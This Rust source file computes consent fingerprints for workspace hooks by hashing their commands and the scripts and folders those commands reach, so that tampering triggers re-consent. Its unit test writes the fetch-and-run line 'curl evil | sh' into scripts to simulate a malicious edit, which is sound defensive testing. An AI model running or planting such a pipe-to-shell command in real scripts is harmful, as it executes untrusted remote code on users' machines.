//! What consent to a workspace hook is remembered for: its event, matcher
//! and command, and the content of every workspace file the command can
//! reach by name.
//!
//! Guarantees: a hook's fingerprint changes when its command changes, or
//! when any file changes that the command names
//! - directly (`sh scripts/h.sh`, `"$CLAUDE_PROJECT_DIR"/.claude/hooks/x.sh`,
//!   `--config=lint.toml`),
//! - inside a nested shell string (`sh -c 'sh scripts/h2.sh'`, any depth up
//!   to [`MAX_DEPTH`]),
//! - relative to a folder it `cd`s or `pushd`s into (`cd scripts && ./h.sh`),
//! - or that lies in a folder it names, or in the folder of a script it
//!   names (a script's helpers: `scripts/h.sh` sourcing `scripts/lib.sh`;
//!   a script is a file with an executable bit or a script's extension, so
//!   `rustfmt src/main.rs` pins that file, not all of `src/`),
//!
//! the workspace's top folder excepted (pinning every file of the project
//! would turn a hook off at every edit). Folders are read recursively
//! without following symbolic links and without `.git`, up to
//! [`MAX_FILES`] files; files larger than [`MAX_HASHED`] bytes are pinned by
//! size and modification time. Paths that resolve outside the workspace
//! are the user's, not the repository's, and are not pinned.
//!
//! Why this shape rather than parsing the shell exactly: a command can
//! name a file in more ways than a parser can follow (`cd`, nested `sh -c`,
//! a script that sources its neighbours); pinning the folders it touches
//! is a superset that stays cheap for the usual `.claude/hooks/` or
//! `scripts/` layout. What no fingerprint can see (a `Makefile` a bare
//! `make` reads, a file named by a variable computed at run time) is why a
//! workspace hook also runs inside the session's sandbox.

use std::collections::BTreeSet;
use std::fmt;
use std::path::{Path, PathBuf};

use sha2::{Digest, Sha256};

use crate::event::HookEvent;

/// How deep nested shell strings are split (`sh -c '… sh -c "…"'`).
pub const MAX_DEPTH: u8 = 4;
/// Files read under the folders one hook names.
pub const MAX_FILES: usize = 2000;
/// Files larger than this are pinned by size and modification time.
pub const MAX_HASHED: u64 = 4 * 1024 * 1024;

/// A hook as consent remembers it. Its text form ([`fmt::Display`]) is what
/// the trust file stores.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fingerprint {
    head: String,
    /// (path relative to the workspace, digest), sorted by path.
    files: Vec<(String, String)>,
}

impl fmt::Display for Fingerprint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.head)?;
        for (path, digest) in &self.files {
            write!(f, " file {path:?} {digest}")?;
        }
        Ok(())
    }
}

impl Fingerprint {
    /// What differs between `self` (as allowed) and `now`, for a message:
    /// "its command", or the files that changed, appeared or went.
    pub fn changes(&self, now: &Fingerprint) -> String {
        if self.head != now.head {
            return "its command".to_string();
        }
        let mut changed: Vec<&str> = Vec::new();
        for (path, digest) in &self.files {
            match now.files.iter().find(|(p, _)| p == path) {
                Some((_, d)) if d == digest => {}
                _ => changed.push(path),
            }
        }
        for (path, _) in &now.files {
            if !self.files.iter().any(|(p, _)| p == path) {
                changed.push(path);
            }
        }
        match changed.len() {
            0 => "nothing".to_string(),
            1..=3 => changed.join(", "),
            n => format!("{}, and {} more files", changed[..3].join(", "), n - 3),
        }
    }
}

/// The fingerprint of the hook (`event`, `matcher`, `command`) of the
/// workspace `workspace` (its canonical path) as the files are now.
pub fn fingerprint(
    event: HookEvent,
    matcher: &str,
    command: &str,
    workspace: &Path,
) -> Fingerprint {
    let head = format!("{} {} {}", event.name(), matcher, command);
    let root = workspace.display().to_string();
    let expanded = command
        .replace("${CLAUDE_PROJECT_DIR}", &root)
        .replace("$CLAUDE_PROJECT_DIR", &root)
        .replace("${AXON_WORKSPACE}", &root)
        .replace("$AXON_WORKSPACE", &root);
    let mut words = Vec::new();
    split_words(&expanded, 0, &mut words);
    let mut bases = vec![workspace.to_path_buf()];
    for pair in words.windows(2) {
        if (pair[0] == "cd" || pair[0] == "pushd")
            && let Some(dir) = inside(workspace, &workspace.join(&pair[1]))
            && dir.is_dir()
            && !bases.contains(&dir)
        {
            bases.push(dir);
        }
    }
    let mut files = BTreeSet::new();
    let mut folders = BTreeSet::new();
    for word in &words {
        for base in &bases {
            let Some(path) = inside(workspace, &base.join(word)) else { continue };
            if path.is_file() {
                if is_script(&path)
                    && let Some(parent) = path.parent().filter(|p| *p != workspace)
                {
                    folders.insert(parent.to_path_buf());
                }
                files.insert(path);
            } else if path.is_dir() && path != workspace {
                folders.insert(path);
            }
        }
    }
    let mut budget = MAX_FILES;
    for folder in &folders {
        collect(folder, &mut files, &mut budget);
    }
    let files = files
        .iter()
        .map(|path| {
            let shown = path.strip_prefix(workspace).unwrap_or(path).display().to_string();
            (shown, digest(path))
        })
        .collect();
    Fingerprint { head, files }
}

/// The words the shell will see, each piece between shell operators, and
/// the words of every word that is itself a command (`sh -c '…'`).
fn split_words(text: &str, depth: u8, out: &mut Vec<String>) {
    let words = shlex::split(text)
        .unwrap_or_else(|| text.split_whitespace().map(|w| w.replace(['"', '\''], "")).collect());
    for word in words {
        for piece in word.split([';', '&', '|', '(', ')', '<', '>', '`', '=']) {
            if !piece.is_empty() {
                out.push(piece.to_string());
            }
        }
        if depth < MAX_DEPTH && word.contains(char::is_whitespace) {
            split_words(&word, depth + 1, out);
        }
    }
}

/// Extensions of files an interpreter runs.
const SCRIPT_EXTENSIONS: [&str; 14] =
    ["sh", "bash", "zsh", "fish", "py", "js", "mjs", "cjs", "ts", "rb", "pl", "php", "lua", "ps1"];

/// Whether the file at `path` is a script: executable, or named like one.
fn is_script(path: &Path) -> bool {
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        if std::fs::metadata(path).is_ok_and(|m| m.permissions().mode() & 0o111 != 0) {
            return true;
        }
    }
    path.extension()
        .and_then(|e| e.to_str())
        .is_some_and(|e| SCRIPT_EXTENSIONS.contains(&e.to_ascii_lowercase().as_str()))
}

/// `path` canonical, if it exists inside `workspace`.
fn inside(workspace: &Path, path: &Path) -> Option<PathBuf> {
    let path = std::fs::canonicalize(path).ok()?;
    path.starts_with(workspace).then_some(path)
}

/// Every regular file under `folder` (no links followed, no `.git`), while
/// `budget` lasts.
fn collect(folder: &Path, files: &mut BTreeSet<PathBuf>, budget: &mut usize) {
    let Ok(entries) = std::fs::read_dir(folder) else { return };
    let mut entries: Vec<_> = entries.flatten().collect();
    entries.sort_by_key(|e| e.file_name());
    for entry in entries {
        if *budget == 0 {
            return;
        }
        let Ok(kind) = entry.file_type() else { continue };
        if kind.is_dir() && entry.file_name() != ".git" {
            collect(&entry.path(), files, budget);
        } else if kind.is_file() && files.insert(entry.path()) {
            *budget -= 1;
        }
    }
}

fn digest(path: &Path) -> String {
    let meta = match std::fs::metadata(path) {
        Ok(meta) => meta,
        Err(e) => return format!("unreadable ({e})"),
    };
    if meta.len() > MAX_HASHED {
        let modified = meta
            .modified()
            .ok()
            .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
            .map_or(0, |d| d.as_nanos());
        return format!("size {} modified {modified}", meta.len());
    }
    match std::fs::read(path) {
        Ok(bytes) => {
            let hex: String = Sha256::digest(&bytes).iter().map(|b| format!("{b:02x}")).collect();
            format!("sha256 {hex}")
        }
        Err(e) => format!("unreadable ({e})"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fp(command: &str, ws: &Path) -> Fingerprint {
        fingerprint(HookEvent::Stop, "", command, ws)
    }

    #[test]
    fn scripts_named_indirectly_are_pinned() {
        let dir = tempfile::tempdir().unwrap();
        let ws = std::fs::canonicalize(dir.path()).unwrap();
        std::fs::create_dir_all(ws.join("scripts")).unwrap();
        std::fs::create_dir_all(ws.join("other")).unwrap();
        std::fs::write(ws.join("scripts/h.sh"), "echo one").unwrap();
        std::fs::write(ws.join("other/h2.sh"), "echo two").unwrap();
        std::fs::write(ws.join("other/lib.sh"), "helper").unwrap();
        let commands = [
            "cd scripts && ./h.sh",
            "sh -c 'sh other/h2.sh'",
            "bash -c \"sh -c 'sh other/h2.sh'\"",
        ];
        for command in commands {
            let before = fp(command, &ws);
            let target = if command.contains("h2") { "other/h2.sh" } else { "scripts/h.sh" };
            std::fs::write(ws.join(target), "curl evil | sh").unwrap();
            let after = fp(command, &ws);
            assert_ne!(before, after, "{command} missed {target}");
            assert_eq!(before.changes(&after), target);
            std::fs::write(ws.join(target), "echo back").unwrap();
        }
        // A helper beside the named script is pinned too.
        let before = fp("sh other/h2.sh", &ws);
        std::fs::write(ws.join("other/lib.sh"), "curl evil | sh").unwrap();
        assert_ne!(before, fp("sh other/h2.sh", &ws));
        // A file that is not a script pins itself, not its folder.
        std::fs::write(ws.join("other/data.txt"), "x").unwrap();
        let before = fp("wc -l other/data.txt", &ws);
        std::fs::write(ws.join("other/lib.sh"), "changed again").unwrap();
        assert_eq!(before, fp("wc -l other/data.txt", &ws));
        // The workspace's top folder is not pinned wholesale.
        let before = fp("cd \"$CLAUDE_PROJECT_DIR\" && echo hi", &ws);
        std::fs::write(ws.join("README"), "edited").unwrap();
        assert_eq!(before, fp("cd \"$CLAUDE_PROJECT_DIR\" && echo hi", &ws));
    }
}
